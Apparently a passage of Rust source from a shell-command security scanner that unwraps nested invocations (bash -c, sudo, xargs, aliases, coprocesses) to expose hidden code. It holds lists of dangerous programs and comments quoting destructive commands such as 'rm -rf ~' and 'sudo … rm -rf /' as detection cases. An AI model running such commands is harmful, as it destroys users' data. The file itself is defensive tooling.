//! Emitting commands: wrapper stripping and re-parsing of code hidden inside arguments
//! (`bash -c STRING`, `eval ARGS`, `su -c`, `alias`, `watch`, `find -exec`, here-strings fed to a shell).

use super::ir::*;
use super::walk::{is_name, CmdCtx, SpanMap, Walker};
use super::wrappers::{self, Unwrap};
use crate::interp::Lang;

/// Most input items (`xargs` lines, `parallel :::` arguments) expanded into commands.
const MAX_ITEMS: usize = 16;

/// Shells whose `-c STRING` is shell code we can parse.
pub const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "yash", "posh", "fish", "rbash", "csh",
    "tcsh", "ksh93", "oksh", "loksh", "pdksh", "hush", "bosh", "lksh",
];

/// Keywords that can only close or continue a compound command; bash rejects them as commands.
const RESERVED_OUT_OF_PLACE: &[&str] = &[
    "fi", "then", "else", "elif", "done", "do", "esac", "}", "in",
];

/// Programs whose output is shell set-up code they generate themselves (`eval "$(ssh-agent -s)"`).
const SHELL_CODE_GENERATORS: &[&str] = &[
    "hermes-scan",
    "ssh-agent",
    "direnv",
    "pyenv",
    "rbenv",
    "nodenv",
    "jenv",
    "goenv",
    "plenv",
    "starship",
    "zoxide",
    "brew",
    "fnm",
    "mise",
    "rtx",
    "conda",
    "mamba",
    "micromamba",
    "thefuck",
    "dircolors",
    "keychain",
    "gpg-agent",
    "opam",
    "rustup",
    "kubectl",
    "helm",
    "gh",
    "register-python-argcomplete",
    "atuin",
    "mcfly",
    "fzf",
    "nvm",
    "pipenv",
    "poetry",
    "uv",
    "just",
    "deno",
    "volta",
    "minikube",
    "docker-machine",
    "podman",
    "colima",
    "crc",
    "lesspipe",
    "lesspipe.sh",
    "pip",
    "pip3",
    "npm",
    "pnpm",
    "oh-my-posh",
    "op",
    "aws",
    "luarocks",
    "pixi",
    "rbw",
    "kind",
    "k3d",
    "gcloud",
    "hub",
    "asdf",
    "pkenv",
    "tfenv",
    "sdk",
    "glab",
    "task",
    "chezmoi",
    "hcloud",
    "devbox",
    "devenv",
    "navi",
    "git-town",
    "aws-vault",
    "pdm",
    "rye",
    "hatch",
    "mycli",
    "pgcli",
    "batman",
    "bun",
    "flyctl",
    "doctl",
    "eksctl",
    "kubeadm",
    "kustomize",
    "istioctl",
    "argocd",
    "velero",
    "stern",
    "tkn",
    "oc",
    "linkerd",
    "cilium",
    "jj",
    "zellij",
    "broot",
    "vfox",
    "proto",
    "earthly",
    "dagger",
    "rclone",
    "restic",
    "golangci-lint",
    "goreleaser",
    "cosign",
    "syft",
    "grype",
    "trivy",
    "buf",
    "tailscale",
];

/// How a shell was invoked.
#[derive(Debug, PartialEq)]
pub enum ShellInvocation<'a> {
    /// `sh -c CODE`.
    Code(&'a Word),
    /// `sh FILE`.
    Script(&'a Word),
    /// `sh`, `sh -s`, `sh -`: reads its program from stdin.
    Stdin,
}

/// If `cmd` runs a shell, how it gets its program.
pub fn shell_invocation(cmd: &Command) -> Option<ShellInvocation<'_>> {
    let name = cmd.name();
    if !SHELLS.contains(&name) {
        return None;
    }
    let mut has_c = false;
    let mut reads_stdin = false;
    let args = cmd.args();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if a == "-" {
            return Some(ShellInvocation::Stdin);
        }
        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
            if a.starts_with("--") {
                if matches!(a, "--rcfile" | "--init-file" | "--command") {
                    if a == "--command" {
                        has_c = true;
                    } else {
                        i += 1;
                    }
                }
            } else {
                let flags = &a[1..];
                // `bash -n FILE`, `sh -n -c …`: read and check, never run (noexec).
                if flags.contains('n') && a.starts_with('-') && !flags.ends_with('o') {
                    return None;
                }
                if flags.contains('c') && a.starts_with('-') {
                    has_c = true;
                }
                if flags.contains('s') && a.starts_with('-') {
                    reads_stdin = true;
                }
                if flags.ends_with('o') || flags.ends_with('O') {
                    i += 1;
                }
            }
            i += 1;
            continue;
        }
        break;
    }
    match args.get(i) {
        Some(w) if has_c => Some(ShellInvocation::Code(w)),
        Some(_) if reads_stdin => Some(ShellInvocation::Stdin),
        Some(w)
            if matches!(
                w.text.as_str(),
                "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
            ) =>
        {
            Some(ShellInvocation::Stdin)
        }
        Some(w) => Some(ShellInvocation::Script(w)),
        None if has_c => None,
        None => Some(ShellInvocation::Stdin),
    }
}

/// The operands of a shell that reads its script from stdin (`bash -s -- A B`): its `$1`, `$2`, ….
fn stdin_shell_operands(args: &[Word]) -> Vec<Word> {
    let mut i = 0;
    while let Some(a) = args.get(i).map(|w| w.text.as_str()) {
        if a == "--" || a == "-" {
            i += 1;
            break;
        }
        if !((a.starts_with('-') || a.starts_with('+')) && a.len() > 1) {
            break;
        }
        // `-o OPTION`, `--rcfile FILE` take a value.
        let takes_value = matches!(a, "--rcfile" | "--init-file")
            || (!a.starts_with("--") && (a.ends_with('o') || a.ends_with('O')));
        i += 1 + usize::from(takes_value);
    }
    args.get(i..).map(<[Word]>::to_vec).unwrap_or_default()
}

/// `sudo -i`, `sudo -s`, `su`, `su - root`, `sudo su -`: a shell for another user with no command
/// of its own, so it runs whatever arrives on its standard input.
fn root_shell_reading_stdin(cmd: &Command) -> bool {
    let args = cmd.args();
    fn text(w: &Word) -> &str {
        w.text.as_str()
    }
    match cmd.name() {
        "sudo" => {
            let mut shell = false;
            let mut i = 0;
            let value_options = super::wrappers::value_options("sudo");
            while let Some(a) = args.get(i).map(text) {
                match a {
                    _ if value_options.contains(&a) => i += 1,
                    "-s" | "-i" | "--shell" | "--login" => shell = true,
                    "--" => {}
                    _ if a.starts_with("--") => {}
                    _ if a.starts_with('-') => {
                        if a[1..].contains(['s', 'i']) {
                            shell = true;
                        }
                    }
                    _ => return false,
                }
                i += 1;
            }
            shell
        }
        "su" | "ksu" => {
            let mut users = 0;
            let mut i = 0;
            while let Some(a) = args.get(i).map(text) {
                match a {
                    "-c" | "--command" | "--session-command" => return false,
                    _ if a.starts_with("--command=") || a.starts_with("--session-command=") => {
                        return false
                    }
                    "-s"
                    | "--shell"
                    | "-g"
                    | "--group"
                    | "-G"
                    | "--supp-group"
                    | "-w"
                    | "--whitelist-environment" => i += 1,
                    "-"
                    | "-l"
                    | "--login"
                    | "-m"
                    | "-p"
                    | "--preserve-environment"
                    | "-P"
                    | "--pty"
                    | "-f"
                    | "--" => {}
                    _ if a.starts_with('-') => {
                        if a[1..].contains('c') {
                            return false;
                        }
                    }
                    _ => users += 1,
                }
                i += 1;
            }
            users <= 1
        }
        _ => false,
    }
}

/// True when the command runs code that it reads from its standard input.
pub fn reads_code_from_stdin(cmd: &Command) -> bool {
    match shell_invocation(cmd) {
        Some(ShellInvocation::Stdin) => true,
        Some(_) => false,
        None if root_shell_reading_stdin(cmd) => true,
        None => {
            matches!(cmd.name(), "source" | ".")
                && cmd.args().first().is_some_and(|a| {
                    matches!(
                        a.text.as_str(),
                        "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" | "-"
                    )
                })
        }
    }
}

/// Programs a glob in command position may stand for, most dangerous first (shells, then
/// fetchers and interpreters, then destructive and network tools).
const GLOB_PROGRAMS: &[&str] = &[
    "bash",
    "sh",
    "dash",
    "zsh",
    "ksh",
    "busybox",
    "curl",
    "wget",
    "python3",
    "python",
    "perl",
    "ruby",
    "node",
    "php",
    "nc",
    "ncat",
    "socat",
    "rm",
    "dd",
    "mkfs",
    "shred",
    "chmod",
    "chown",
    "base64",
    "xxd",
    "openssl",
    "ssh",
    "scp",
    "telnet",
    "crontab",
    "systemctl",
    "sudo",
    "kill",
    "pkill",
    "killall",
    "env",
    "eval",
    "xargs",
    "find",
    "truncate",
    "wipefs",
    "mv",
    "tee",
    "usermod",
    "passwd",
];

/// `text` without its `$NAME`, `${NAME}`, `$@` and `$*` references (what it is when they are
/// unset); text with any other expansion comes back unchanged.
fn strip_variable_references(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = String::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'$' {
            let c = text[i..].chars().next().unwrap_or('?');
            out.push(c);
            i += c.len_utf8();
            continue;
        }
        let braced = b.get(i + 1) == Some(&b'{');
        let start = i + 1 + usize::from(braced);
        let mut end = start;
        if matches!(b.get(start), Some(b'@' | b'*')) {
            end += 1;
        } else {
            while end < b.len() && (b[end].is_ascii_alphanumeric() || b[end] == b'_') {
                end += 1;
            }
        }
        if end == start || b[start].is_ascii_digit() && end - start > 1 {
            return text.to_string();
        }
        if braced {
            if b.get(end) != Some(&b'}') {
                return text.to_string();
            }
            end += 1;
        }
        i = end;
    }
    out
}

/// The program an unquoted glob (`b??h`, `cu*l`) names, if it matches one of [`GLOB_PROGRAMS`].
fn glob_program(pattern: &str) -> Option<&'static str> {
    GLOB_PROGRAMS
        .iter()
        .copied()
        .find(|p| crate::text::glob::matches(pattern, p))
}

/// Programs that Windows also ships or installs under the same name with `.exe`.
const PORTED_PROGRAMS: &[&str] = &[
    "curl", "wget", "bash", "sh", "python", "python3", "py", "node", "perl", "ruby", "php", "git",
    "ssh", "scp", "sftp", "tar", "openssl", "nc", "ncat", "socat", "java", "deno", "bun",
];

/// Canonical program name: the base name of a path.
fn base_name(text: &str) -> &str {
    let trimmed = text.trim_end_matches('/');
    if trimmed.is_empty() {
        return text;
    }
    trimmed.rsplit('/').next().unwrap_or(trimmed)
}

impl Walker {
    /// Strip wrappers, record the command(s), then look inside for nested code.
    pub(crate) fn emit(&mut self, argv: Vec<Word>, ctx: CmdCtx) {
        if !ctx.assignments.is_empty() {
            let assignments = ctx.assignments.clone();
            self.env_code_sinks(&assignments);
        }
        if argv.is_empty() {
            if !ctx.assignments.is_empty() || !ctx.redirects.is_empty() {
                self.push_command(argv, &ctx);
            }
            return;
        }
        // Commands that run commands that run commands … (`xargs xargs … rm`): past the bound
        // the rest is not followed, and says so; the clock is read here too.
        let span = argv[0].span;
        if self.out_of_time_at(span) {
            return;
        }
        if self.emit_depth >= super::walk::MAX_EMIT_DEPTH {
            self.gap(
                GapKind::DepthExceeded,
                "commands run by commands nested deeper than the analysis bound",
                span,
            );
            return;
        }
        self.emit_depth += 1;
        let saved_place = self.place.clone();
        // `$EMPTY rm -rf ~`, `$@ rm -rf ~`: a leading expansion the input never set may expand
        // to nothing, and then the next word is the program; that reading is analysed too.
        if argv.len() > 1
            && may_expand_to_nothing(&argv[0])
            && !argv[1].dynamic
            && !argv[1].text.starts_with('-')
        {
            self.emit_unwrapped(argv[1..].to_vec(), ctx.clone());
            self.place = saved_place.clone();
        }
        self.emit_unwrapped(argv, ctx);
        self.place = saved_place;
        self.emit_depth -= 1;
    }

    fn emit_unwrapped(&mut self, mut argv: Vec<Word>, mut ctx: CmdCtx) {
        let mut wrappers_seen: Vec<String> = Vec::new();
        let mut parent: Option<usize> = None;
        let mut invoked_as;
        loop {
            invoked_as = self.canonical_name(&mut argv[0]);
            // A wrapper that is also a sink (`sudo -s CMD`, `flock FILE -c CMD`): its code is
            // in an option, not in the argv it would otherwise wrap.
            if wrappers::is_wrapper(&argv[0].text)
                && super::sinks::table()
                    .for_program(&argv[0].text)
                    .next()
                    .is_some()
            {
                // (The argv is moved in and back out: a copy per wrapper is quadratic on
                // `sudo sudo … CMD`.)
                let cmd = Command {
                    argv: std::mem::take(&mut argv),
                    ..self.blank_command(&ctx)
                };
                let found = super::sinks::extract(&cmd, None);
                argv = cmd.argv;
                if !found.is_empty() {
                    let idx = self.push_wrapper(&argv, &ctx, &wrappers_seen, parent);
                    let recorded = self.out.commands[idx].clone();
                    self.run_sinks(&recorded, found);
                    return;
                }
            }
            if wrappers_seen.len() < super::walk::MAX_EMIT_DEPTH {
                if let Some(inner) = wrappers::launched(&argv) {
                    let idx = self.push_wrapper(&argv, &ctx, &wrappers_seen, parent);
                    wrappers_seen.push(argv[0].text.clone());
                    parent = Some(idx);
                    argv = inner;
                    continue;
                }
            }
            let unwrapped = wrappers::unwrap(&argv);
            // `sudo sudo … (70 times) rm -rf /`: past the bound the command is not known, and
            // that is said (an unwrapped remainder would read as a harmless `sudo`).
            if wrappers_seen.len() >= super::walk::MAX_EMIT_DEPTH
                && !matches!(unwrapped, Unwrap::None)
            {
                self.gap(
                    GapKind::DepthExceeded,
                    "wrappers nested deeper than the analysis bound",
                    argv[0].span,
                );
                return;
            }
            match unwrapped {
                Unwrap::None => break,
                Unwrap::Inner {
                    wrapper_len,
                    inner,
                    inner_end,
                    assignments,
                } => {
                    let idx = self.push_wrapper(&argv[..wrapper_len], &ctx, &wrappers_seen, parent);
                    let wrapper = argv[0].text.clone();
                    self.enter_root(&argv[..wrapper_len]);
                    wrappers_seen.push(wrapper.clone());
                    parent = Some(idx);
                    self.env_code_sinks(&assignments);
                    ctx.assignments.extend(assignments);
                    if wrapper == "sem" && inner < inner_end {
                        // `sem 'CMD'`: GNU parallel's semaphore hands its arguments to a shell
                        // as one command line.
                        let code = join_words(&argv[inner..inner_end]);
                        self.nested_code(&code, Origin::ShellString);
                        return;
                    }
                    if matches!(wrapper.as_str(), "xargs" | "parallel") {
                        let mut runs = self.input_driven(&argv, inner, inner_end, &ctx);
                        // `parallel 'rm -rf {}' ::: …`: parallel hands its command to a shell, so
                        // one quoted word is a command line.
                        if wrapper == "parallel" && inner_end == inner + 1 {
                            for run in &mut runs {
                                if let Ok([word]) = run.as_deref() {
                                    if word.text.contains(char::is_whitespace) {
                                        *run = Err(word.clone());
                                    }
                                }
                            }
                        }
                        if !runs.is_empty() || inner >= inner_end {
                            for run in runs {
                                self.emit_or_code(run, &ctx, &wrappers_seen, parent);
                            }
                            return;
                        }
                    }
                    argv.truncate(inner_end);
                    argv.drain(..inner);
                    if argv.is_empty() {
                        return;
                    }
                }
                Unwrap::Code { wrapper_len, code } => {
                    self.push_wrapper(&argv[..wrapper_len], &ctx, &wrappers_seen, parent);
                    self.nested_code(&code, Origin::SplitString);
                    return;
                }
            }
        }
        if let Some(same) = wrappers::equivalent(&argv) {
            invoked_as = invoked_as.or_else(|| Some(argv[0].text.clone()));
            argv = same;
        }
        // `find . / -delete`: find walks each start point in turn; each is read as its own find.
        if let Some(starts) = find_start_points(&argv).filter(|r| r.len() > 1) {
            let (first, rest) = (starts.start, starts.end);
            for i in first + 1..rest {
                let mut one = argv[..first].to_vec();
                one.push(argv[i].clone());
                one.extend_from_slice(&argv[rest..]);
                self.emit_unwrapped(one, ctx.clone());
            }
            argv.drain(first + 1..rest);
        }
        // `rm -rf '~'`: a file program given a quoted `~` works on a file named `~` here (a
        // program that hands its words to a shell again, like `eval` or `ssh`, is not one).
        if !self.symbolic_tilde && FILE_PROGRAMS.contains(&argv[0].text.as_str()) {
            for a in argv.iter_mut().skip(1).filter(|a| a.literal_tilde) {
                a.text.insert_str(0, "./");
                a.literal_tilde = false;
            }
        }
        let idx = self.push_command(argv, &ctx);
        self.out.commands[idx].wrappers = wrappers_seen;
        self.out.commands[idx].wrapped_by = parent;
        // After `exec > >(bash)`, text printed to the input's own output runs.
        if self.state.stdout_into_shell && self.track_state {
            let cmd = &self.out.commands[idx];
            let own_stdout = cmd.pipes.is_empty()
                && !cmd
                    .redirects
                    .iter()
                    .any(|r| r.writes() && r.fd.is_none_or(|f| f == 1));
            if own_stdout {
                if let Some(code) = super::walk::printed_literal(cmd) {
                    self.nested_code(&code, Origin::ShellString);
                }
            }
        }
        self.out.commands[idx].invoked_as = invoked_as;
        self.coprocess_code(idx);
        self.record_written_file(idx);
        if self.track_state && self.out.commands[idx].name() == "pwd" {
            if let Some(dir) = self.state.cwd.clone() {
                self.printed_cwd.insert(idx, dir.to_string());
            }
        }
        if !self.in_function && self.track_state {
            let cmd = self.out.commands[idx].clone();
            self.state.observe(&cmd, &mut self.vars);
        }
        self.look_inside(idx, &ctx);
        self.call_function(idx);
        self.call_alias(idx);
    }

    /// Whether `cmd` writes its output to a coprocess shell's input (`>&"${COPROC[1]}"`).
    pub(crate) fn writes_coprocess(&self, cmd: &Command) -> bool {
        self.state.coproc_shell
            && cmd
                .redirects
                .iter()
                .any(|r| r.op.contains('>') && r.fd.is_none_or(|f| f == 1) && r.target.dynamic)
    }

    /// `coproc bash; echo CODE >&"${COPROC[1]}"`: a shell started as a coprocess (standard input
    /// not given) runs what later commands write to a descriptor (`>&${NAME[1]}`, `>&$fd`).
    pub(crate) fn coprocess_code(&mut self, idx: usize) {
        if !(self.track_state && self.state.mentions_coproc) {
            return;
        }
        let cmd = &self.out.commands[idx];
        if !self.state.coproc_shell {
            self.state.coproc_shell =
                cmd.stdin_text.is_none() && cmd.pipes.is_empty() && reads_code_from_stdin(cmd);
            return;
        }
        if !self.writes_coprocess(cmd) {
            return;
        }
        let code =
            super::walk::printed_literal(cmd).or_else(|| self.stage_output.get(&idx).cloned());
        if let Some(code) = code {
            self.nested_code(&code, Origin::ShellString);
        }
    }

    /// A command named by an alias defined earlier in the input runs the alias's text with the
    /// command's arguments after it: `alias x='rm -rf'; x ~` is `rm -rf ~`. Bash expands aliases
    /// only on a later line (and in scripts only after `shopt -s expand_aliases`); a scanner
    /// cannot know how the input will be fed, so every later use is expanded.
    fn call_alias(&mut self, idx: usize) {
        let cmd = &self.out.commands[idx];
        if cmd.argv[0].dynamic || cmd.wrapped_by.is_some() {
            return;
        }
        let name = cmd.name().to_string();
        let Some(value) = self.aliases.get(&name).cloned() else {
            return;
        };
        let key = format!("alias {name}");
        // `alias ls='ls --color'`: the alias's own name inside it is the command, not the alias.
        if self.call_stack.contains(&key) || self.depth + 1 > super::walk::MAX_DEPTH {
            return;
        }
        let at = cmd.argv[0].span;
        let mut args = cmd.args().to_vec();
        let stdin = cmd.stdin_text.clone();
        let background = cmd.background;
        // An alias whose value ends in a blank makes bash try the next word as an alias too
        // (`alias run='command '; alias nuke='rm -rf'; run nuke /`).
        let mut value = value;
        let mut chained = vec![name.clone()];
        while value.ends_with([' ', '\t']) {
            let Some(next) = args.first().filter(|a| !a.dynamic) else {
                break;
            };
            let Some(more) = self
                .aliases
                .get(&next.text)
                .filter(|_| !chained.contains(&next.text))
            else {
                break;
            };
            value.push_str(more);
            chained.push(args.remove(0).text);
        }
        self.call_stack.push(key);
        let step = format!("alias {name} expanded");
        self.with_step(&step, |w| {
            let simple = !value.is_empty()
                && !value.contains(|c: char| "|&;<>()$`\\\"'{}*?[]~#=\n".contains(c));
            if simple {
                let mut argv: Vec<Word> = value
                    .split_whitespace()
                    .map(|t| Word::literal(t, at))
                    .collect();
                argv.extend(args);
                // In place of the command: same pipeline stage, same redirections' input.
                let ctx = CmdCtx {
                    stdin_text: stdin,
                    ..CmdCtx::bare(at, background)
                };
                w.depth += 1;
                w.emit(argv, ctx);
                w.depth -= 1;
            } else {
                let code = Word {
                    text: with_quoted_args(value, &args),
                    span: at,
                    ..Word::default()
                };
                w.nested_code(&code, Origin::ShellString);
            }
        });
        self.call_stack.pop();
    }

    /// `git NAME ARGS` where an earlier `git config alias.NAME VALUE` set the alias: git runs
    /// `git VALUE ARGS`, or the shell command after `!`.
    fn call_git_alias(&mut self, name: &str, value: String, args: &[Word], at: (usize, usize)) {
        let key = format!("git alias {name}");
        if self.call_stack.contains(&key) || self.depth + 1 > super::walk::MAX_DEPTH {
            return;
        }
        let line = match value.strip_prefix('!') {
            Some(shell) => shell.to_string(),
            None => format!("git {value}"),
        };
        let code = Word {
            text: with_quoted_args(line, args),
            span: at,
            ..Word::default()
        };
        self.call_stack.push(key);
        self.with_step(&format!("git alias {name} expanded"), |w| {
            w.nested_code(&code, Origin::ShellString)
        });
        self.call_stack.pop();
    }

    /// A call of a function defined in the input: walk its body with the arguments bound.
    fn call_function(&mut self, idx: usize) {
        let name = self.out.commands[idx].name().to_string();
        let Some((text, map)) = self.functions.get(&name).cloned() else {
            return;
        };
        // A call inside a definition is expanded when the enclosing function is called.
        if self.in_function
            || !self.track_state
            || self.call_stack.contains(&name)
            || self.depth + 1 > super::walk::MAX_DEPTH
        {
            return; // recursion: the body was already analysed once
        }
        let args = self.out.commands[idx].args().to_vec();
        // `main "$@"` in a script whose own parameters are unknown: the function's are unknown
        // too (not one word, with `$2` empty after it).
        let spread_unknown = args
            .iter()
            .any(|w| w.dynamic && (w.text.contains("$@") || w.text.contains("$*")));
        let saved_positional = if spread_unknown {
            self.state.positional.take()
        } else {
            self.state.positional.replace(args)
        };
        let saved_fn = std::mem::replace(&mut self.in_function, false);
        let saved_depth = self.depth;
        self.call_stack.push(name);
        self.depth += 1;
        self.walk_source(&text, map);
        self.depth = saved_depth;
        self.call_stack.pop();
        self.in_function = saved_fn;
        self.state.positional = saved_positional;
    }

    /// `chroot DIR` / `nsenter -t 1 -m` inside a container: later paths are relative to that root.
    fn enter_root(&mut self, wrapper: &[Word]) {
        if self.place.mounts.is_empty() && !self.place.isolated {
            return;
        }
        match wrapper[0].text.as_str() {
            "chroot" => {
                let Some(root) = wrapper[1..].iter().find(|a| !a.text.starts_with('-')) else {
                    return;
                };
                let mut host = root.text.clone();
                self.place.map_path(&mut host);
                if !host.starts_with("<container>") {
                    self.place.mounts = vec![("/".to_string(), host)];
                    self.place.isolated = false;
                }
            }
            "nsenter" => {
                let target_init = wrapper
                    .windows(2)
                    .any(|w| (w[0].text == "-t" || w[0].text == "--target") && w[1].text == "1");
                let mount_ns = wrapper.iter().any(|a| {
                    a.text == "-m"
                        || a.text == "--mount"
                        || a.text == "-a"
                        || a.text == "--all"
                        || (a.text.starts_with('-')
                            && !a.text.starts_with("--")
                            && a.text.contains('m'))
                });
                if target_init && mount_ns {
                    self.place.mounts.clear();
                    self.place.isolated = false;
                }
            }
            _ => {}
        }
    }

    /// A command with this context and no argv (a template for synthetic commands).
    fn blank_command(&self, ctx: &CmdCtx) -> Command {
        Command {
            argv: Vec::new(),
            assignments: ctx.assignments.clone(),
            redirects: ctx.redirects.clone(),
            stdin_text: ctx.stdin_text.clone(),
            pipes: Vec::new(),
            within: Vec::new(),
            depth: self.depth,
            origin: self.origin,
            span: ctx.span,
            background: ctx.background,
            wrappers: Vec::new(),
            wrapped_by: None,
            in_function: self.in_function,
            via: None,
            invoked_as: None,
            cwd: self.state.cwd.clone().filter(|_| self.track_state),
        }
    }

    /// `xargs` / `parallel` whose input is known: the commands each input item produces.
    /// An empty result means "run the inner command as written".
    fn input_driven(
        &mut self,
        argv: &[Word],
        inner: usize,
        inner_end: usize,
        ctx: &CmdCtx,
    ) -> Vec<Result<Vec<Word>, Word>> {
        let template: Vec<Word> = argv[inner..inner_end].to_vec();
        let mut items: Vec<Word> = Vec::new();
        let mut replace: Option<String> = None;
        for (i, a) in argv[..inner].iter().enumerate() {
            if a.text == "-I" || a.text == "--replace" {
                replace = argv.get(i + 1).map(|w| w.text.clone());
            } else if let Some(r) = a
                .text
                .strip_prefix("-I")
                .or_else(|| a.text.strip_prefix("--replace="))
            {
                replace = Some(r.to_string());
            } else if a.text == "-i" {
                replace = Some("{}".into());
            }
        }
        if argv[0].text == "parallel" {
            replace = Some("{}".into());
            for a in argv.iter().skip(inner_end) {
                if !a.text.starts_with(":::") {
                    items.push(a.clone());
                }
            }
        }
        // `xargs -a FILE` / `parallel -a FILE`: items from a file written earlier in the input.
        let arg_file = argv[..inner]
            .windows(2)
            .find(|w| matches!(w[0].text.as_str(), "-a" | "--arg-file"))
            .map(|w| w[1].clone())
            .or_else(|| {
                argv[inner_end..]
                    .windows(2)
                    .find(|w| w[0].text == "::::")
                    .map(|w| w[1].clone())
            });
        // `xargs -a <(echo ~) rm -rf`: a process substitution with known output is the file.
        let from_file = arg_file.and_then(|f| match f.subs[..] {
            [id] if f.text == "<(…)" => self.literal_output(id).map(|text| Word {
                text: format!("{text}\n"),
                span: f.span,
                ..Word::default()
            }),
            _ => self.files.get(f.text.trim_start_matches("./")).cloned(),
        });
        if items.is_empty() {
            let input = from_file
                .or_else(|| ctx.stdin_text.clone())
                .or_else(|| self.piped.clone());
            if let Some(w) = input.filter(|w| w.subs.is_empty()) {
                let sep: &[char] = if argv[..inner]
                    .iter()
                    .any(|a| a.text == "-0" || a.text == "--null")
                {
                    &['\0']
                } else if replace.is_some() {
                    &['\n']
                } else {
                    &[' ', '\t', '\n']
                };
                for line in w
                    .text
                    .split(sep)
                    .filter(|l| !l.trim().is_empty())
                    .take(MAX_ITEMS)
                {
                    let mut item = w.clone();
                    item.text = line.trim().trim_matches(['\'', '"']).to_string();
                    items.push(item);
                }
            }
        }
        if items.is_empty() {
            // Unknown input: `… | xargs -I{} rm -rf /{}` reaches every entry of `/`.
            if let Some(r) = replace
                .as_ref()
                .filter(|r| template.iter().any(|t| t.text.contains(&format!("/{r}"))))
            {
                let argv = template
                    .iter()
                    .map(|t| {
                        let mut t = t.clone();
                        t.text = t.text.replace(&format!("/{r}"), "/*");
                        t
                    })
                    .collect();
                return vec![Ok(argv)];
            }
            // `… | xargs -I{} kubectl exec {} -- env`: the items go where the placeholder is
            // (written as it is for the analyzers that read it, and unknown), nothing is appended.
            if let Some(r) = replace
                .as_ref()
                .filter(|r| template.iter().any(|t| t.text.contains(r.as_str())))
            {
                let mut argv = template.clone();
                for t in argv.iter_mut().filter(|t| t.text.contains(r.as_str())) {
                    t.dynamic = true;
                    // A word that is only the placeholder is an unknown argument.
                    if t.text == *r {
                        t.text = "$XARGS_INPUT".into();
                    }
                }
                return vec![Ok(argv)];
            }
            // Unknown input (`cat list | xargs rm -rf`): the inner command gets arguments nobody
            // can see, which is what an unset variable would be.
            if template.len() > 1 {
                let mut argv = template.clone();
                let last = template.last().cloned().unwrap_or_default();
                argv.push(Word {
                    text: "$XARGS_INPUT".into(),
                    dynamic: true,
                    ..last
                });
                return vec![Ok(argv)];
            }
            return Vec::new();
        }
        items.truncate(MAX_ITEMS);
        if template.is_empty() {
            // `parallel ::: 'cmd1' 'cmd2'`: each item is a command line.
            return items.into_iter().map(Err).collect();
        }
        match replace {
            Some(r) if template.iter().any(|t| t.text.contains(&r)) => items
                .iter()
                .map(|item| {
                    Ok(template
                        .iter()
                        .map(|t| {
                            let mut t = t.clone();
                            // A whole listing (`ls -A ~` is `~/*`) names entries: `~/{}` over it
                            // is every entry of that directory.
                            let slot = format!("/{r}");
                            t.text = if item.text.ends_with("/*") && t.text.contains(&slot) {
                                t.text.replace(&slot, "/*")
                            } else {
                                t.text.replace(&r, &item.text)
                            };
                            t
                        })
                        .collect())
                })
                .collect(),
            _ => {
                let mut argv = template;
                argv.extend(items);
                vec![Ok(argv)]
            }
        }
    }

    /// How the kernel runs a written file executed directly: by its `#!` line (`./report.py`
    /// starting `#!/usr/bin/env python3` is Python), else by a shell.
    fn executed_lang(&self, file: &Word) -> Lang {
        self.lookup_file(&file.text)
            .and_then(|content| Lang::from_shebang(&content.text))
            .unwrap_or(Lang::Shell)
    }

    /// `python -m helper` after `printf … > helper.py` (or `PYTHONPATH=/tmp/pm python3 -m
    /// cleanup` after writing `/tmp/pm/cleanup.py`): the module written earlier is what runs.
    fn python_module(&mut self, cmd: &Command) {
        let args = cmd.args();
        let Some(module) = args
            .windows(2)
            .find(|w| w[0].text == "-m")
            .map(|w| w[1].text.replace('.', "/"))
        else {
            return;
        };
        let mut dirs = vec![String::new()];
        if let Some((_, path)) = cmd.assignments.iter().find(|(k, _)| k == "PYTHONPATH") {
            dirs.extend(
                path.text
                    .split(':')
                    .filter(|d| !d.is_empty())
                    .map(|d| format!("{}/", d.trim_end_matches('/'))),
            );
        }
        let written = dirs.iter().find_map(|dir| {
            [
                format!("{dir}{module}.py"),
                format!("{dir}{module}/__main__.py"),
            ]
            .into_iter()
            .find(|f| self.files.contains_key(file_key(f)))
        });
        if let Some(path) = written {
            let file = Word {
                text: path,
                ..cmd.argv[0].clone()
            };
            self.run_written_file(&file, Lang::Python, "run as a module");
        }
    }

    fn emit_or_code(
        &mut self,
        run: Result<Vec<Word>, Word>,
        ctx: &CmdCtx,
        wrappers_seen: &[String],
        parent: Option<usize>,
    ) {
        match run {
            Ok(argv) => {
                let inner_ctx = CmdCtx {
                    redirects: Vec::new(),
                    stdin_text: None,
                    ..ctx.clone()
                };
                let first = self.out.commands.len();
                self.emit(argv, inner_ctx);
                for c in &mut self.out.commands[first..] {
                    if c.wrapped_by.is_none() {
                        c.wrapped_by = parent;
                        c.wrappers.splice(0..0, wrappers_seen.iter().cloned());
                    }
                }
            }
            Err(code) => self.nested_code(&code, Origin::ShellString),
        }
    }

    fn push_wrapper(
        &mut self,
        argv: &[Word],
        ctx: &CmdCtx,
        seen: &[String],
        parent: Option<usize>,
    ) -> usize {
        let idx = self.push_command(argv.to_vec(), ctx);
        self.out.commands[idx].wrappers = seen.to_vec();
        self.out.commands[idx].wrapped_by = parent;
        idx
    }

    /// Reduce argv[0] to its base name and report names that cannot be known statically.
    /// Returns the program as written when it was a path.
    fn canonical_name(&mut self, w: &mut Word) -> Option<String> {
        // Shells named indirectly (`"$SHELL"`, `$0`, `/proc/self/exe`) are shells.
        if super::sinks::table().is_indirect_shell(&w.text) {
            w.text = "sh".into();
            w.dynamic = false;
            return None;
        }
        // zsh `=curl` expands to the path of `curl`.
        if let Some(program) = w
            .text
            .strip_prefix('=')
            .filter(|p| p.bytes().next().is_some_and(|c| c.is_ascii_alphabetic()))
            .filter(|p| {
                p.bytes()
                    .all(|c| c.is_ascii_alphanumeric() || b"-_.+".contains(&c))
            })
        {
            w.text = program.to_string();
        }
        if let Some(program) = self.located_program(w) {
            w.text = program;
            w.subs.clear();
            w.dynamic = false;
        }
        // A copy or link of an installed program made earlier in the input runs that program,
        // also when called by its bare name (`hash -p /bin/rm ls; ls …`, a link placed in a
        // directory put on PATH).
        let copies = &self.state.program_copies;
        let copy = copies.get(w.text.trim_start_matches("./")).or_else(|| {
            (!w.text.contains('/'))
